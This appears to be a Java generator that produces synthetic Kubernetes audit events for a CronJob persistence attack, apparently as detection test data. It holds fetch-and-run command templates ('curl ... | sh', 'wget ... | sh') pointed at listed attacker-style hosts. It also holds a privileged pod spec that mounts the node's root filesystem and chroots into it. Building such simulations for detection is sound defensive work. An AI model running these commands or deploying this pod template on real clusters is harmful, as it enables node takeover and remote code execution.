package io.chainwatch.generate;

import io.chainwatch.generate.ClusterProfile.Node;

import static io.chainwatch.generate.Obj.arr;
import static io.chainwatch.generate.Obj.of;
import static io.chainwatch.generate.TrafficModel.S;

/**
 * CronJob persistence (S20; Microsoft's threat matrix "Kubernetes CronJob", MS-TA9014, T1053.007): a user creates a
 * CronJob with a maintenance-looking name whose job downloads and runs a script (or, in kube-system and default,
 * mounts the node's root), on a schedule of a few minutes, with its history kept short. Then the cronjob
 * controller ({@code system:serviceaccount:kube-system:cronjob-controller}) creates the Job
 * {@code <cronjob>-<minutes since the epoch>} owned by the CronJob, the job controller its pod, the scheduler and
 * the kubelet run it, and the controllers write the status; a second run follows. In a quarter of the instances
 * the attacker starts a first run by hand ({@code kubectl create job --from=cronjob/...}, owned by the CronJob too),
 * which is then the Job the pattern reports. Evidence: the CronJob create, the first Job owned by it.
 */
final class CronJobPersistenceScenario implements Scenario {
    static final String[] NAMES = {"log-rotate", "cert-refresh", "node-cleanup", "cache-warmup", "metrics-sync",
            "backup-snapshot", "tmp-reaper", "image-gc"};
    static final String[] FETCH = {"curl -fsSL http://%s/%s.sh | sh", "wget -qO- http://%s/%s | sh",
            "curl -s https://%s/%s | bash"};
    static final String[] HOSTS = {"45.9.148.35", "updates.cloud-telemetry.net", "185.193.127.21", "cdn.pkg-mirror.io"};

    @Override
    public String name() {
        return "cronjob-persistence";
    }

    @Override
    public String patternId() {
        return "cronjob-created-then-scheduled-run";
    }

    @Override
    public String description() {
        return "CronJob created by a user, then the cronjob controller (or kubectl create job --from) creates its Job";
    }

    @Override
    public void inject(ScenarioContext c, long t) {
        Rng r = c.rng;
        ClusterProfile p = c.profile;
        double where = r.nextDouble();
        String ns = where < 0.3 ? "kube-system" : where < 0.55 ? "default" : r.pick(p.appNamespaces());
        String base = r.pick(NAMES);
        String name = c.state.claim("cronjob/" + ns + "/" + base) ? base : base + "-" + r.suffix(4);
        Identity me = ns.equals("kube-system") || ns.equals("default")
                ? c.attacker("ops", ClusterProfile.rbacReason("ClusterRoleBinding", "ops-operators", "ClusterRole",
                        "ops-operator", "Group", p.groupName("ops")))
                : c.attacker(ns + "-devs", ClusterProfile.rbacReason("RoleBinding", ns + "-devs-edit/" + ns, "ClusterRole",
                        "edit", "Group", p.groupName(ns + "-devs")));
        long at = t;
        if (r.chance(0.6)) {
            c.submit(c.request(me, at, "list", Res.CRONJOBS, ns, null, null).uri("?limit=500"));
            at += r.range(4 * S, 40 * S);
        }
        if (r.chance(0.4)) {
            c.submit(c.request(me, at, "list", Res.SERVICEACCOUNTS, ns, null, null).uri("?limit=500"));
            at += r.range(4 * S, 40 * S);
        }

        // the job's pod: a download-and-run script, or (where pod security allows it) the node's root
        boolean host = !ControllerChains.podSecurity(ns).startsWith("restricted") && r.chance(0.5);
        String script = String.format(r.pick(FETCH), r.pick(HOSTS), r.suffix(6));
        Obj container = of("name", base, "image", r.pick(new String[] {"docker.io/library/alpine:3.20",
                "docker.io/curlimages/curl:8.10.1", "docker.io/library/busybox:1.36"}));
        Obj podSpec = of("restartPolicy", "OnFailure", "containers", arr(container));
        if (host) {
            container.put("command", arr("sh", "-c", "chroot /host sh -c '" + script + "'"));
            container.put("securityContext", of("privileged", true));
            container.put("volumeMounts", arr(of("name", "host", "mountPath", "/host")));
            podSpec.put("hostPID", true).put("hostNetwork", true);
            podSpec.put("volumes", arr(of("name", "host", "hostPath", of("path", "/"))));
            podSpec.put("tolerations", arr(of("operator", "Exists")));
        } else {
            container.put("command", arr("sh", "-c", script));
            container.put("securityContext", of("allowPrivilegeEscalation", false, "runAsNonRoot", true, "runAsUser", 65534,
                    "capabilities", of("drop", arr("ALL")), "seccompProfile", of("type", "RuntimeDefault")));
        }
        int every = r.pick(new Integer[] {1, 2, 5, 5, 10});
        String schedule = every == 1 ? "* * * * *" : "*/" + every + " * * * *";
        Obj jobTemplate = of("metadata", of("creationTimestamp", null),
                "spec", of("backoffLimit", 0, "template", of("metadata", of("creationTimestamp", null), "spec", podSpec)));
        Obj meta = of("name", name, "namespace", ns, "creationTimestamp", null);
        Obj spec = of("schedule", schedule, "concurrencyPolicy", "Forbid", "successfulJobsHistoryLimit", 0,
                "failedJobsHistoryLimit", 0, "jobTemplate", jobTemplate);
        Obj req = of("kind", "CronJob", "apiVersion", "batch/v1", "metadata", meta, "spec", spec, "status", of());
        String cjUid = r.uuid();
        Obj resp = of("kind", "CronJob", "apiVersion", "batch/v1",
                "metadata", meta.with("uid", cjUid, "resourceVersion", c.state.nextResourceVersion(), "generation", 1,
                        "creationTimestamp", Times.rfc3339Seconds(at)),
                "spec", spec.with("suspend", false, "timeZone", null), "status", of());
        c.evidence(c.request(me, at, "create", Res.CRONJOBS, ns, name, null)
                .uri("?fieldManager=kubectl-create&fieldValidation=Strict").bodies(req, resp));
        if (r.chance(0.5)) {
            at += r.range(3 * S, 30 * S);
            c.submit(c.request(me, at, "get", Res.CRONJOBS, ns, name, null));
        }

        Identity cronjobs = p.kcmController("cronjob-controller");
        Obj owner = ControllerChains.ownerRef("batch/v1", "CronJob", name, cjUid);
        int runs = 2;
        if (r.chance(0.25)) {
            // kubectl create job --from=cronjob/<name>: a manual run owned by the CronJob
            at += r.range(10 * S, 60 * S);
            String job = name + "-manual-" + r.suffix(3);
            job(c, me, at, ns, job, owner, jobTemplate, true, podSpec, base);
            runs = 1;
        }
        // the schedule: the next multiples of the period
        long period = every * Times.MINUTE;
        long next = (at / period + 1) * period;
        for (int i = 0; i < runs; i++, next += period) {
            long fire = next + r.range(20_000, 900_000);
            job(c, cronjobs, fire, ns, name + "-" + next / Times.MINUTE, owner, jobTemplate, false, podSpec, base);
            ControllerChains.status(c, cronjobs, fire + r.range(5_000, 40_000), Res.CRONJOBS, ns, name, cjUid, "batch/v1",
                    "CronJob", of("active", arr(of("kind", "Job", "namespace", ns, "name", name + "-" + next / Times.MINUTE,
                            "apiVersion", "batch/v1")), "lastScheduleTime", Times.rfc3339Seconds(next)));
        }
    }

    /** A Job from the template (by the cronjob controller or kubectl), its pod by the job controller, the run. */
    private static void job(ScenarioContext c, Identity who, long at, String ns, String job, Obj owner, Obj jobTemplate,
                            boolean manual, Obj podSpec, String container) {
        Rng r = c.rng;
        ClusterProfile p = c.profile;
        Obj jobSpec = (Obj) jobTemplate.get("spec");
        Obj meta = of("name", job, "namespace", ns, "creationTimestamp", null,
                "annotations", manual ? of("cronjob.kubernetes.io/instantiate", "manual")
                        : of("batch.kubernetes.io/cronjob-scheduled-timestamp", Times.rfc3339Seconds(at - at % Times.MINUTE)),
                "ownerReferences", arr(owner));
        Obj req = of("kind", "Job", "apiVersion", "batch/v1", "metadata", meta, "spec", jobSpec, "status", of());
        String jobUid = r.uuid();
        Obj resp = of("kind", "Job", "apiVersion", "batch/v1",
                "metadata", meta.with("uid", jobUid, "resourceVersion", c.state.nextResourceVersion(), "generation", 1,
                        "creationTimestamp", Times.rfc3339Seconds(at),
                        "labels", of("batch.kubernetes.io/controller-uid", jobUid, "batch.kubernetes.io/job-name", job)),
                "spec", jobSpec.with("completions", 1, "parallelism", 1, "completionMode", "NonIndexed", "suspend", false),
                "status", of());
        Request create = c.request(who, at, "create", Res.JOBS, ns, job, null).bodies(req, resp);
        if (manual) {
            create.uri("?fieldManager=kubectl-create&fieldValidation=Strict");
        }
        if (c.instance.evidence.size() == 1) {
            c.evidence(create);
        } else {
            c.submit(create);
        }
        // the job controller's pod
        Identity jobs = p.kcmController("job-controller");
        long podAt = at + r.range(20_000, 400_000);
        String pod = job + "-" + r.suffix(5);
        String podUid = r.uuid();
        Node node = r.pick(p.nodes);
        Obj labels = of("batch.kubernetes.io/controller-uid", jobUid, "batch.kubernetes.io/job-name", job,
                "controller-uid", jobUid, "job-name", job);
        c.submit(ControllerChains.ownedPod(c, jobs, podAt, ns, job + "-", pod, podUid, labels,
                ControllerChains.ownerRef("batch/v1", "Job", job, jobUid), podSpec, "BestEffort"));
        String ip = podSpec.get("hostNetwork") != null ? node.ip : node.nextPodIP();
        long running = ControllerChains.run(c, podAt, node, ns, pod, podUid, container, ip, false);
        long done = running + r.range(3 * S, 40 * S);
        Workloads.podStatus(c.sim, r, done, node, ns, pod, podUid, container, null, false, c::submit);
        ControllerChains.status(c, jobs, done + r.range(200_000, 3 * S), Res.JOBS, ns, job, jobUid, "batch/v1", "Job",
                of("succeeded", 1, "startTime", Times.rfc3339Seconds(podAt), "completionTime", Times.rfc3339Seconds(done)));
    }
}
